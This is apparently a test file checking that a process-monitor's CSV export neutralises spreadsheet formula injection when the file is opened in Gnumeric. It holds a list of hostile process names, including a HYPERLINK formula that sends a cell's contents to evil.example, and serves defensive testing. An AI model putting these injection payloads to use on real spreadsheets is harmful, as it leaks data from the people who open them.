// /topz.csv opened by a real spreadsheet (Gnumeric): numbers are numbers, and nothing that a process calls itself is
// calculated.

import { afterAll, beforeAll, expect, setDefaultTimeout, test } from 'bun:test'
import { type ChildProcess, execFileSync, spawn } from 'node:child_process'
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { Snapshot } from '../server/model/snapshot.ts'
import { startTopz, type Topz } from './topz.ts'
import { until } from './until.ts'

// Tests wait for conditions; this only ends a test that hangs.
setDefaultTimeout(60_000)

/** Names that someone may give a process, to be calculated on the reader's machine. */
const HOSTILE = [
  '=HYPERLINK("https://evil.example/?x="&A1,"sheet-canary")',
  '+1+sheet-canary',
  '-1-sheet-canary',
  '@SUM(1,2)sheet-canary',
  '\t=1+sheet-canary',
  '\r=1+sheet-canary',
  ' =1+sheet-canary',
  '\uff1d1+sheet-canary',
  '"=1","=2"sheet-canary',
]
/** A cell's type, as Gnumeric writes it; a formula has none. */
const TEXT = '60'
const NUMBER = '40'

interface Cell {
  readonly row: number
  readonly column: number
  readonly type: string | undefined
  readonly text: string
}

const folder = mkdtempSync(join(tmpdir(), 'topz-'))
let topz: Topz
let processes: readonly ChildProcess[]
beforeAll(async () => {
  // A shell without a command waits for one: its command line is its name alone.
  processes = HOSTILE.map(argv0 => spawn('/bin/sh', [], { argv0, stdio: ['pipe', 'ignore', 'ignore'] }))
  topz = await startTopz(['--interval=250ms'])
})
afterAll(async () => {
  for (const one of processes) one.kill('SIGKILL')
  await topz.stop()
  rmSync(folder, { recursive: true })
})

const ask = async (path: string) => (await fetch(`${topz.origin}${path}`)).text()

/** The result in the spreadsheet, cell by cell. */
function opened(csv: string): Cell[] {
  writeFileSync(join(folder, 'topz.csv'), csv)
  const xml = execFileSync('ssconvert', ['-T', 'Gnumeric_XmlIO:sax:0', 'topz.csv', 'fd://1'], {
    cwd: folder,
    encoding: 'utf8',
    env: { ...process.env, LC_ALL: 'C.UTF-8', HOME: folder },
    stdio: ['ignore', 'pipe', 'ignore'],
    maxBuffer: 64 << 20,
  })
  const cells = xml.matchAll(
    /<gnm:Cell Row="(\d+)" Col="(\d+)"(?: ValueType="(\d+)")?[^>]*>([^<]*)<\/gnm:Cell>/g,
  )
  return [...cells].map(([, row, column, type, text = '']) => ({
    row: Number(row),
    column: Number(column),
    type,
    text,
  }))
}

const formulas = (cells: readonly Cell[]) => cells.filter(({ type }) => type === undefined)

test('a name that looks like a formula stays text, letter for letter', async () => {
  const csv = await until('every hostile process', async () => {
    const text = await ask('/topz.csv?q=sheet-canary&columns=pid,rss,command&sort=pid:asc')
    return text.trimEnd().split('\r\n').length === HOSTILE.length + 1 ? text : undefined
  })
  const cells = opened(csv)
  expect(formulas(cells)).toEqual([])
  const commands = cells.filter(({ column, row }) => column === 2 && row > 0)
  expect(commands.map(({ type }) => type)).toEqual(HOSTILE.map(() => TEXT))
  const plain = commands.map(({ text }) => text.replaceAll('&quot;', '"').replaceAll('&amp;', '&'))
  expect(plain).toEqual(HOSTILE.map(name => name.replace('\t', '\\t').replace('\r', '\\r')))
  // The same without the apostrophes is calculated: this reader would have revealed a mistake.
  expect(formulas(opened(csv.replaceAll(`"'`, '"').replaceAll(`,'`, ','))).length).toBeGreaterThan(0)
})

test('every number of every column is a number to the spreadsheet', async () => {
  const columns = 'pid,cpu,mem,rss,virt,threads,fds,time,nice,oom'
  const [csv, json] = await until('both forms of one tick', async () => {
    const path = `?q=sheet-canary&columns=${columns}&sort=pid:asc`
    const [first, snapshot, again] = [
      await ask(`/topz.csv${path}`),
      await ask(`/topz.json${path}`),
      await ask(`/topz.csv${path}`),
    ]
    return first === again && first.includes('\r\n') ? [first, snapshot] : undefined
  })
  const { processes: rows } = JSON.parse(json ?? '') as Snapshot
  const cells = opened(csv ?? '')
  expect(formulas(cells)).toEqual([])
  const keys = (csv ?? '').split('\r\n')[0]?.split(',') as (keyof Snapshot['processes'][number])[]
  for (const [index, process] of rows.entries())
    for (const [column, key] of keys.entries()) {
      const cell = cells.find(one => one.row === index + 1 && one.column === column)
      const { [key]: value } = process
      expect([key, cell?.type, cell && Number(cell.text)]).toEqual([
        key,
        value === undefined ? undefined : NUMBER,
        value === undefined ? undefined : Number(value),
      ])
    }
  expect(formulas(opened(await ask('/topz.csv')))).toEqual([])
})
